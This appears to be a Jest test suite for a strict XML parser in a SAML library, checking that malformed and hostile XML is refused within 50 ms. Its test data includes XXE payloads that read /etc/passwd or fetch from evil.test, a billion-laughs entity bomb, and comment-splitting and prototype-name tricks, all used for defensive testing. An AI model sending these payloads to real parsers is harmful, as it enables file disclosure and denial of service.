import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { cpuMilliseconds } from '../cpu-time.fixture.js';
import { reasonOf } from '../refusal.fixture.js';
import { MAX } from './grammar.js';
import { MAX_XML_BYTES } from './octets.js';
import { readCanonicalXml, readXml } from './read-xml.js';

const read = (text: string) => readXml(Buffer.from(text));

const nested = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth);

describe('SML-003: what is no plain XML in UTF-8 is refused before the parser, within 50 ms', () => {
  it.each<[string, string | Buffer, string]>([
    ['a document type', '<!DOCTYPE a><a/>', 'xml_doctype'],
    ['a document type in lower case', '<!doctype a><a/>', 'xml_doctype'],
    ['an internal entity', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', 'xml_doctype'],
    ['an external entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'xml_doctype'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.test/x">%b;]><a/>', 'xml_doctype'],
    ['an entity without a document type', '<!ENTITY b "c"><a/>', 'xml_doctype'],
    ['an external subset', '<!DOCTYPE a SYSTEM "http://evil.test/a.dtd"><a/>', 'xml_doctype'],
    [
      'a billion laughs',
      `<!DOCTYPE a [${Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')}]><a>&l9;</a>`,
      'xml_doctype',
    ],
    ['an entity that nobody has declared', '<a>&b;</a>', 'xml_malformed'],
    ['a second root', '<a/><a/>', 'xml_malformed'],
    ['a second root behind a comment', '<a></a><!-- --><b></b>', 'xml_malformed'],
    ['text behind the root', '<a/>b', 'xml_malformed'],
    ['text in front of the root', 'b<a/>', 'xml_malformed'],
    ['a section beside the root', '<a/><![CDATA[ ]]>', 'xml_malformed'],
    ['UTF-16 with a mark', Buffer.from('\ufeff<a/>', 'utf16le'), 'xml_not_utf8'],
    ['UTF-16 without a mark', Buffer.from('<a/>', 'utf16le'), 'xml_malformed'],
    ['another encoding by name', '<?xml version="1.0" encoding="ISO-8859-1"?><a/>', 'xml_malformed'],
    ['UTF-7 by name', '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-b+AD4-</a>', 'xml_malformed'],
    ['octets that are not UTF-8', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]), 'xml_not_utf8'],
    ['an overlong sequence', Buffer.from([0x3c, 0x61, 0x3e, 0xc0, 0xbc, 0x3c, 0x2f, 0x61, 0x3e]), 'xml_not_utf8'],
    ['NUL', '<a>\0</a>', 'xml_malformed'],
    ['NUL by reference', '<a>&#0;</a>', 'xml_malformed'],
    ['NUL by hexadecimal reference', '<a b="&#x0;"/>', 'xml_malformed'],
    ['half a surrogate by reference', '<a>&#xD800;</a>', 'xml_malformed'],
    ['no character by reference', '<a>&#x110000;</a>', 'xml_malformed'],
    ['a reference of letters', '<a>&#12ab;</a>', 'xml_malformed'],
    ['nothing', '', 'xml_malformed'],
    ['blanks', '  \n', 'xml_malformed'],
    ['a large document', `<a>${'b'.repeat(MAX_XML_BYTES)}</a>`, 'xml_too_large'],
    ['deep nesting', nested(MAX.depth + 1), 'xml_too_complex'],
    ['very deep nesting', nested(MAX_XML_BYTES / 8), 'xml_too_complex'],
    ['many elements', `<a>${'<b/>'.repeat(MAX.elements)}</a>`, 'xml_too_complex'],
    [
      'many names, for each of which the parser searches the document',
      `<a>${Array.from({ length: 2000 }, (_, n) => `<b${n}></b${n}>`).join('')}${'c'.repeat(200_000)}</a>`,
      'xml_too_complex',
    ],
    ['many comments', `<a>${'<!---->'.repeat(MAX.pieces + 1)}</a>`, 'xml_too_complex'],
    ['many sections', `<a>${'<![CDATA[a]]>'.repeat(MAX.pieces + 1)}</a>`, 'xml_too_complex'],
    ['many comments behind the root', `<a/>${'<!---->'.repeat(30_000)}`, 'xml_too_complex'],
    ['many attributes', `<a>${'<b c="" d="" e=""/>'.repeat(1366)}</a>`, 'xml_too_complex'],
    [
      'many attributes of one element',
      `<a ${Array.from({ length: 33 }, (_, n) => `b${n}=""`).join(' ')}/>`,
      'xml_too_complex',
    ],
    ['many attributes by the quotes in them', `<a b="${"c='d' ".repeat(32)}"/>`, 'accepted'],
    ['a long namespace', `<a xmlns:b="${'c'.repeat(257)}"/>`, 'xml_too_complex'],
    ['an attribute without its end', `<a b="${'c '.repeat(100_000)}`, 'xml_malformed'],
    ['blanks without end in a tag', `<a ${' '.repeat(200_000)}<`, 'xml_malformed'],
    ['many attributes and no end', `<a ${'b="" '.repeat(40_000)}<`, 'xml_malformed'],
    ['a comment without its end', `<a><!--${'-a'.repeat(100_000)}`, 'xml_malformed'],
    ['a section without its end', `<a><![CDATA[${']'.repeat(200_000)}`, 'xml_malformed'],
  ])('%s', (_, document, reason) => {
    const octets = Buffer.from(document);
    expect(cpuMilliseconds(() => expect(reasonOf(() => readXml(octets))).toBe(reason))).toBeLessThan(50);
  });
});

describe('XML 1.0: what the parser would mend without a word is refused', () => {
  it.each([
    ['an element without its end', '<a><b></a>'],
    ['an element without its end, beside one of its name', '<a><b><b></b></a>'],
    ['an end in another case', '<a></A>'],
    ['an end with more behind its name', '<a></a b>'],
    ['an end that nothing begins', '<a></b></a>'],
    ['no end at all', '<a>'],
    ['a value without quotes', '<a b=c/>'],
    ['an attribute without a value', '<a b/>'],
    ['attributes without a blank between', '<a b="c"d="e"/>'],
    ['an attribute twice', '<a b="c" b="d"/>'],
    ['a smaller sign in a value', '<a b="<"/>'],
    ['a bare ampersand', '<a>b & c</a>'],
    ['a bare ampersand in a value', '<a b="c&d"/>'],
    ['two hyphens in a comment', '<a><!-- -- --></a>'],
    ['an empty comment that is none', '<a><!--></a>'],
    ['a processing instruction', '<a><?b c?></a>'],
    ['a processing instruction in front', '<?b c?><a/>'],
    ['the declaration within', '<a><?xml version="1.0"?></a>'],
    ['the declaration behind a blank', ' <?xml version="1.0"?><a/>'],
    ['the declaration of another version', '<?xml version="1.1"?><a/>'],
    ['another kind of section', '<a><![IGNORE[b]]></a>'],
    ['a name of two colons', '<a:b:c xmlns:a="d"/>'],
    ['a name that begins with a colon', '<:a/>'],
    ['a name of letters that look alike', '<\u0430/>'],
    ['an end of a line that is none', '<a>\u0085</a>'],
    ['a separator of lines', '<a>\u2028</a>'],
    ['HTML, in which scripts would be text', '<a><script xmlns="http://www.w3.org/1999/xhtml"><b/></script></a>'],
    ['a vertical tab', '<a>\u000b</a>'],
  ])('%s', (_, document) => {
    expect(reasonOf(() => read(document))).toBe('xml_malformed');
  });
});

describe('Namespaces in XML 1.0: what the parser does not check is refused', () => {
  it.each([
    ['a prefix that nothing declares', '<a:b/>'],
    ['a prefix of an attribute that nothing declares', '<a b:c="d"/>'],
    ['the prefix of signatures, undeclared', '<ds:Signature/>'],
    ['a prefix by the name of a member of objects', '<constructor:b/>'],
    ['the prefix __proto__', '<__proto__:b xmlns:__proto__="c"/>'],
    ['a prefix without a namespace', '<a xmlns:b=""/>'],
    ['the prefix xml for another namespace', '<a xmlns:xml="b"/>'],
    ['the prefix xmlns', '<a xmlns:xmlns="b"/>'],
    ['an element with the prefix xmlns', '<xmlns:a/>'],
    ['another prefix for the namespace of xml', '<a xmlns:b="http://www.w3.org/XML/1998/namespace"/>'],
    ['another prefix for the namespace of xmlns', '<a xmlns:b="http://www.w3.org/2000/xmlns/"/>'],
    ['an attribute twice under two prefixes', '<a xmlns:b="d" xmlns:c="d" b:e="" c:e=""/>'],
    ['a name that begins with xml', '<a xmlid="b"/>'],
    ['a name that only begins like a declaration', '<a xmlnsb="c"/>'],
    ['a name that begins with XMLNS', '<a XMLNS:b="c" xmlns:XMLNS="d"/>'],
  ])('%s', (_, document) => {
    expect(reasonOf(() => read(document))).toBe('xml_malformed');
  });

  it('a default namespace may end, and a prefix may mean another one further in', () => {
    const root = read('<a xmlns="b" xmlns:c="d"><e xmlns=""/><c:f xmlns:c="g"/></a>');
    expect(root.children.map(({ namespace, name }) => [namespace, name])).toEqual([
      ['', 'e'],
      ['g', 'f'],
    ]);
  });
});

describe('SML-002: text is the text of the whole node', () => {
  it.each([
    ['a comment', '<a>anna@a.test<!-- -->.evil.test</a>', 'anna@a.test.evil.test'],
    ['several comments', '<a><!--x-->an<!----><!--y-->na<!--z--></a>', 'anna'],
    ['a section', '<a>an<![CDATA[<na>&amp;]]></a>', 'an<na>&amp;'],
    ['references', '<a>&lt;a&#110;&#x6e;a&gt;</a>', '<anna>'],
    ['blanks', '<a> anna\n\t</a>', ' anna\n\t'],
    ['ends of lines of XML 1.1 by reference', '<a>a&#x85;b&#x2028;c</a>', 'a\u0085b\u2028c'],
    ['xml:space', '<a xml:space="default"> anna </a>', ' anna '],
    ['nothing', '<a/>', ''],
    ['ends of lines', '<a>a\r\nb\rc</a>', 'a\nb\nc'],
  ])('with %s', (_, document, text) => {
    expect(read(document).text).toBe(text);
  });

  it('an element in a text is refused', () => {
    expect(reasonOf(() => read('<a>anna<b/></a>').text)).toBe('element_unexpected');
  });

  it('a processing instruction in a text is refused', () => {
    expect(reasonOf(() => read('<a>anna<?b c?></a>'))).toBe('xml_malformed');
  });
});

describe('An element', () => {
  const root = read('<a xmlns="b" xmlns:p="c" d="1" p:d="2"><e/><p:e/><f/><f/></a>');

  it('is found by namespace and name', () => {
    expect(root.required('c', 'e').node.tagName).toBe('p:e');
    expect(root.optional('c', 'f')).toBeUndefined();
    expect(root.all('b', 'f')).toHaveLength(2);
    expect([...root.tree()].map(({ name }) => name)).toEqual(['a', 'e', 'e', 'f', 'f']);
  });

  it('has attributes without a namespace by their name', () => {
    expect(root.attribute('d')).toBe('1');
    expect(root.attribute('xmlns')).toBeUndefined();
    expect(root.attributes.map(({ namespace, value }) => [namespace, value])).toEqual([
      ['', '1'],
      ['c', '2'],
    ]);
  });

  it('is refused if it is missing or comes twice', () => {
    expect(reasonOf(() => root.required('b', 'g'))).toBe('element_missing');
    expect(reasonOf(() => root.optional('b', 'f'))).toBe('element_repeated');
    expect(reasonOf(() => root.requiredAttribute('g'))).toBe('value_malformed');
  });
});

it('A prologue and a mark of UTF-8 are understood', () => {
  expect(
    read('\ufeff<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!-- a -->\n<a/>\n<!-- b -->\n').name,
  ).toBe('a');
  expect(read("<?xml version='1.0'?><a/>").name).toBe('a');
});

it('A canonical document may be larger than what it was made of, but not without a limit', () => {
  expect(readCanonicalXml(`<a>${'b'.repeat(MAX_XML_BYTES)}</a>`).name).toBe('a');
  expect(reasonOf(() => readCanonicalXml(`<a>${'b'.repeat(1024 * 1024)}</a>`))).toBe('xml_too_large');
});

it('The parser is the one that xml-crypto uses: two would see two documents', () => {
  const lock = readFileSync(join(import.meta.dirname, '..', '..', '..', '..', 'package-lock.json'), 'utf8');
  const { packages } = JSON.parse(lock) as { packages: Readonly<Record<string, unknown>> };
  const installed = Object.keys(packages);
  expect(installed).toContain('node_modules/@xmldom/xmldom');
  const apart = /(?:xml-crypto|packages\/saml)\/node_modules\/@xmldom\/xmldom$/;
  expect(installed.filter((path) => apart.test(path))).toEqual([]);
});
